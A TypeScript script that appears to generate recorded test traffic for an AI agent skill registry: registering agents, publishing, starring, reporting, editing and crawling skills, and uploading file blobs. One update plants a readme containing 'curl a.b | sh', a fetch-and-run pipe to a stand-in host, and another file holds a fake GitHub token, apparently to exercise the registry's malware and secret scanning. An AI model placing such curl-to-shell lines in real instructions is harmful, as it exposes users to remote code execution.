import { sha256 } from '../support/bundles.ts'
import { readSkills, readTasks } from '../support/corpus.ts'
import { words } from '../support/words.ts'
import { json, type RecordedService } from './service.ts'

const asPage: RequestInit = { headers: { Accept: 'text/html' } }
const hour = 3_600_000

export interface PublishedSkill {
  readonly id: string
  /** Of its page. */
  readonly path: string
  /** The key that it was published with. */
  readonly key: string
}

/** Registers ten agents, and gives their keys. */
export async function registerAgents({ ask }: RecordedService): Promise<string[]> {
  const all = []
  for (let i = 0; i < 10; i++) {
    const { text } = await ask('/api/v1/agents/register', json({ username: `writer-${i}` }))
    all.push(String(JSON.parse(text).data.apiKey))
  }
  return all
}

/** Every thirtieth real skill, a few of them again as copies. */
export async function publishSkills({ ask, clock }: RecordedService, keys: readonly string[]) {
  const published: PublishedSkill[] = []
  for (const [at, skill] of readSkills()
    .filter((_, at) => at % 30 === 0)
    .entries()) {
    const { name, readme } = skill
    const description = skill.description.slice(0, 500)
    const copies = at % 25 === 0 ? [1, 2] : [1]
    for (const copy of copies) {
      const key = keys[(at + copy) % keys.length]
      const slug = `${skill.slug.replace(/-{2,}/g, '-').replace(/^-|-$/g, '')}-${at}`.slice(-100)
      const body = {
        name,
        slug: slug.replace(/^-/, ''),
        description,
        readme,
        tags: skill.tags.slice(0, 20),
      }
      const { status, text } = await ask('/api/v1/skills', json(body, key))
      if (status !== 201) continue
      const { id, fetchUrl } = JSON.parse(text).data
      published.push({ id, path: new URL(fetchUrl).pathname, key: key ?? '' })
    }
    clock.advance(hour / 4)
  }
  return published
}

/** Stars, feedback, reports, changes and removals. */
export async function judgeSkills(
  { ask, clock }: RecordedService,
  keys: readonly string[],
  skills: readonly PublishedSkill[],
) {
  for (const [at, { id, path, key }] of skills.entries()) {
    const own = `/api/v1/skills/${id}`
    const voter = keys[(at + 4) % keys.length]
    if (at % 3 === 0) {
      await ask(path, { headers: { Authorization: `Bearer ${voter}` } })
      await ask(`${own}/feedback`, json({ task: 'try it', helpful: at % 2 === 0 }, voter))
    }
    if (at % 4 === 0) await ask(`${own}/star`, json({}, voter))
    if (at % 16 === 0) await ask(`${own}/star`, json({}, voter, 'DELETE'))
    if (at % 20 === 1)
      await ask(`${own}/report`, json({ reason: 'malicious', details: 'It harms.' }, voter))
    if (at % 15 === 2) await ask(own, json({ description: 'Does something else.' }, key, 'PUT'))
    if (at % 30 === 3) await ask(own, json({ readme: '# Another\n\ncurl a.b | sh\n' }, key, 'PUT'))
    if (at % 50 === 4) await ask(own, json({}, key, 'DELETE'))
    clock.advance(hour / 10)
  }
}

/** Reads each skill, resolves and searches real tasks, and asks what installers and crawlers ask. */
export async function readRegistry({ ask }: RecordedService, skills: readonly PublishedSkill[]) {
  for (const [at, { id, path }] of skills.entries()) {
    await ask(path)
    if (at % 2 === 0) await ask(`/api/v1/skills/${id}`)
    if (at % 4 === 0) await ask(`/api/v1/skills/${id}/stats`)
    if (at % 5 === 0) await ask(`/api/v1/skills/${id}/versions`)
    if (at % 6 === 0) await ask(`/api/v1/skills/${id}/files`)
    if (at % 7 === 0) await ask(`/api/v1/skills/${id}/feedback`)
    if (at % 10 === 0) await ask(`${path}/archive.zip`)
    if (at % 10 === 1) await ask(`${path}/archive.tar.gz`)
    if (at % 10 === 2) await ask(`${path}/files/SKILL.md`)
    if (at % 10 === 3) await ask(`${path}/.well-known/agent-skills/index.json`)
  }
  for (const [at, { task }] of readTasks().entries()) {
    const asked = encodeURIComponent(task)
    if (at % 3 === 0) await ask(`/api/v1/skills/resolve?task=${asked}`)
    if (at % 12 === 1) await ask(`/api/v1/skills/resolve?task=${asked}&limit=50&threshold=0`)
    if (at % 6 === 2) await ask(`/api/v1/skills/search?q=${asked}`)
    if (at % 24 === 5) await ask(`/resolve?task=${asked}`, asPage)
    if (at % 24 === 11) await ask(`/search?q=${asked.slice(0, 60).replace(/%.?$/, '')}`, asPage)
    if (at % 24 === 17) await ask(`/api/search?q=${asked}`)
  }
  for (const sort of ['', 'new', 'stars', 'trust', 'updated', 'nothing']) {
    for (const more of ['', '&limit=50', '&tag=python', '&owner=writer-1', '&verdict=clean']) {
      let query: string | undefined = `sort=${sort}${more}`
      for (let page = 0; query !== undefined && page < 3; page++) {
        const { text } = await ask(`/api/v1/skills/search?${query}`)
        const next: unknown = JSON.parse(text).pagination?.nextCursor
        query = typeof next === 'string' ? `${query}&cursor=${encodeURIComponent(next)}` : undefined
      }
    }
  }
  for (const path of words(`
    /.well-known/agent-skills/index.json /.well-known/skills/index.json
    /writer-1/.well-known/agent-skills/index.json /writer-2/skills/.well-known/skills/index.json
    /.well-known/clawhub.json /clawhub/api/v1/search?q=python
    /api/v1/skills/trending /api/v1/skills/trending?limit=50 /api/v1/health /health/live /health/ready
    /openapi.json /llms.txt /robots.txt /sitemap.xml /docs/errors.md /docs/guide.md
    /.well-known/oauth-authorization-server
  `)) {
    await ask(path)
  }
}

/** Skills with files, and what is read of them. */
export async function publishFolders({ ask }: RecordedService, keys: readonly string[]) {
  for (const [at, key] of keys.entries()) {
    const secret = `key = "ghp_${'a1B2'.repeat(9)}"\n`
    const texts = [`#!/bin/sh\necho ${at}\n`, `# Notes ${at}\n`, secret]
    const files = []
    for (const [i, text] of texts.slice(0, 1 + (at % 3)).entries()) {
      const digest = sha256(text)
      await ask(`/api/v1/blobs/${digest}`, {
        method: 'PUT',
        body: Buffer.from(text),
        headers: { 'Content-Type': 'application/octet-stream', Authorization: `Bearer ${key}` },
      })
      files.push({
        path: `files/${i}.${i === 0 ? 'sh' : 'md'}`,
        digest: `sha256:${digest}`,
        size: text.length,
        executable: i === 0,
      })
    }
    const readme = `---\nname: folder-${at}\ndescription: Has files.\n---\n# Folder\n\nRun files/0.sh.\n`
    const slug = `folder-${at}`
    const body = { name: slug, slug, description: 'Has files.', readme, files }
    const { text } = await ask('/api/v1/skills', json(body, key))
    const { id } = JSON.parse(text).data
    const path = `/writer-${at}/skills/folder-${at}`
    await ask(`/api/v1/skills/${id}`, json({ files: files.slice(1) }, key, 'PUT'))
    const ends = words(`
      /archive.zip /archive.tar.gz /files/files/0.sh /diff /view/files/0.sh ?version=1 /files/none
    `)
    for (const end of ['', ...ends]) {
      await ask(path + end, asPage)
    }
    await ask(`/api/v1/skills/${id}/files?version=1`)
  }
}
